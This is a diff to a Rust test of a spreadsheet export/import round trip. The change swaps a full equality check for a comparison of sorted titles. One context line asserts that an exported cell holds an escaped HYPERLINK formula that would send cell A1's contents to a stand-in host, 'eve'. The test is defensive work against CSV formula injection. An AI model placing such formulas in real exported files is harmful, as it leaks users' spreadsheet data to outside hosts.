@@ -139,5 +139,11 @@ fn a_spreadsheet_computes_nothing_that_others_wrote_and_the_import_reads_it_as_t
     assert!(cells().any(|cell| cell == "'=HYPERLINK(\"http://eve\"&A1)"));
     let back = Shelf { city: 1, ..Shelf::default() };
     import(&back, read_table(&csv, &Mapping::default(), "export.csv").unwrap());
-    assert_same(&back, &shelf);
+    // What had no source has one now: its row.
+    let titles_of = |shelf: &Shelf| {
+        let mut titles: Vec<_> = shelf.held.borrow().values().map(|content| content.title().to_owned()).collect();
+        titles.sort();
+        titles
+    };
+    assert_eq!(titles_of(&back), titles_of(&shelf));
 }
